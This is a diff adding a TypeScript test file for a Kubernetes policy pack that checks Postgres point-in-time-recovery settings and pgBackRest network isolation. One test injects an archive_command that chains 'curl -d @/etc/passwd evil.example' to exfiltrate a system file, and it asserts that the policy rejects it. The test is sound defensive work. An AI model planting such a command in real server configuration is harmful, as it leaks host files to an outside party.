@@ -1,0 +1,102 @@
+import * as assert from "assert";
+import { planFromValues } from "../../cli/plan";
+import type { Plan } from "../../cli/plan/runner";
+import { safeServerSettings } from "../../policies/serverShape";
+import { networkIsolation } from "../../policies/network";
+import { PGBACKREST_COMMAND } from "../../policies/standard/securitySettings";
+import { HANZO_SQL_IMAGE, archiveCommand, restoreCommand } from "../../render/pitr";
+import { load, VALID } from "../support/config";
+import { TOKEN_ENV } from "../support/plan";
+import { TYPE, find, gateLines, inputs, mutable, violations } from "../support/policy";
+
+/** Stacks with point-in-time recovery on (issue 23): Spaces, an endpoint of your own with a private CA, an adopted server. */
+const PITR = { environment: "prod", clusterName: "hanzo-k8s", services: ["iam", "cloud"], image: HANZO_SQL_IMAGE, pitrEnabled: true };
+const CA = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
+const STACKS: Record<string, [Record<string, unknown>, string[]]> = {
+    spaces: [PITR, []],
+    minio: [
+        {
+            ...PITR,
+            backupEndpoint: "https://minio.minio.svc:9000",
+            backupAccessKeyId: "k",
+            backupSecretAccessKey: "s",
+            pitrEndpointCa: CA,
+        },
+        ["hanzo-sql:backupAccessKeyId", "hanzo-sql:backupSecretAccessKey"],
+    ],
+    adopted: [{ ...PITR, adopt: true, adminPassword: "the first admin password" }, ["hanzo-sql:adminPassword"]],
+};
+
+async function planOfStack(stack: string, preview = false): Promise<Plan> {
+    const [values, secrets] = STACKS[stack];
+    return mutable((await planFromValues(`pitr-${stack}`, values, secrets, TOKEN_ENV, preview)).engine);
+}
+
+describe("the policy pack with point-in-time recovery on", function () {
+    this.timeout(300_000);
+    for (const stack of Object.keys(STACKS)) {
+        for (const preview of [false, true]) {
+            it(`passes the ${stack} stack with zero diagnostics, ${preview ? "as a first preview" : "as an update"}`, async () => {
+                assert.deepStrictEqual(await gateLines(await planOfStack(stack, preview)), [
+                    `pitr-${stack}: 0 mandatory and 0 advisory violations of 19 policies`,
+                ]);
+            });
+        }
+    }
+
+    it("accepts exactly the archive and restore commands render/pitr.ts renders", () => {
+        const spec = load({ ...VALID, image: HANZO_SQL_IMAGE, pitrEnabled: true }).instance.archive!;
+        assert.strictEqual(archiveCommand(spec), `${PGBACKREST_COMMAND} archive-push %p`);
+        assert.strictEqual(restoreCommand(spec), `${PGBACKREST_COMMAND} archive-get %f "%p"`);
+    });
+
+    it("safe-server-settings: refuses any other archive_command or restore_command, and an archive_library", async () => {
+        const plan = await planOfStack("spaces");
+        const config = inputs(find(plan, TYPE.configMap, "postgres-config"));
+        config.data["postgresql.conf"] = config.data["postgresql.conf"]
+            .replace(
+                /^archive_command = .*$/m,
+                "archive_command = 'pgbackrest --stanza=db archive-push %p; curl -d @/etc/passwd evil.example'",
+            )
+            .replace(/^restore_command = .*$/m, "restore_command = 'cp /mnt/wal/%f \"%p\"'")
+            .concat("archive_library = 'basic_archive'\n");
+        assert.deepStrictEqual(await violations(safeServerSettings, plan), [
+            `safe-server-settings: hanzo-sql-postgres-config (kubernetes:core/v1:ConfigMap): ConfigMap "hanzo/postgres-config" postgresql.conf sets archive_command = 'pgbackrest --stanza=db archive-push %p; curl -d @/etc/passwd evil.example': it runs a shell command as the server's OS user for every WAL segment; the standard archives with '${PGBACKREST_COMMAND} archive-push %p' only (pitrEnabled).`,
+            `safe-server-settings: hanzo-sql-postgres-config (kubernetes:core/v1:ConfigMap): ConfigMap "hanzo/postgres-config" postgresql.conf sets restore_command = 'cp /mnt/wal/%f "%p"': it runs a shell command as the server's OS user in recovery; the standard restores with '${PGBACKREST_COMMAND} archive-get %f "%p"' only (pitrEnabled).`,
+            `safe-server-settings: hanzo-sql-postgres-config (kubernetes:core/v1:ConfigMap): ConfigMap "hanzo/postgres-config" postgresql.conf sets archive_library = 'basic_archive': it loads a library into the archiver process; the standard archives with pgBackRest's archive_command.`,
+        ]);
+    });
+
+    it("network-isolation: admits pgBackRest's port only from the base backup pods, by their labels", async () => {
+        const plan = await planOfStack("spaces");
+        const np = inputs(find(plan, TYPE.networkPolicy, "postgres-pgbackrest"));
+        const rule = np.spec.ingress[0];
+        const where =
+            'network-isolation: hanzo-sql-archive-server-ingress (kubernetes:networking.k8s.io/v1:NetworkPolicy): NetworkPolicy "hanzo/postgres-pgbackrest"';
+        const cases: [unknown, string[]][] = [
+            [rule.from, []],
+            [
+                [{ podSelector: {} }],
+                [`${where} admits pgBackRest's port 8432 from more than the base backup pods; admit them alone, by their labels.`],
+            ],
+            [
+                [{ podSelector: { matchLabels: { "app.kubernetes.io/name": "postgres-backup" } } }],
+                [
+                    `${where} admits pgBackRest's port 8432 from CronJob "hanzo/postgres-backup"; only the postgres-pitr-full and postgres-pitr-diff CronJobs may reach it.`,
+                ],
+            ],
+            [
+                [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "hanzo" } } }],
+                [`${where} admits pgBackRest's port 8432 from more than the base backup pods; admit them alone, by their labels.`],
+            ],
+            [
+                [{ podSelector: { matchLabels: { app: "nobody" } } }],
+                [`${where} admits pgBackRest's port 8432 from pods no workload of the stack runs; select the base backup pods.`],
+            ],
+        ];
+        for (const [from, expected] of cases) {
+            rule.from = from;
+            assert.deepStrictEqual(await violations(networkIsolation, plan), expected, JSON.stringify(from));
+        }
+    });
+});
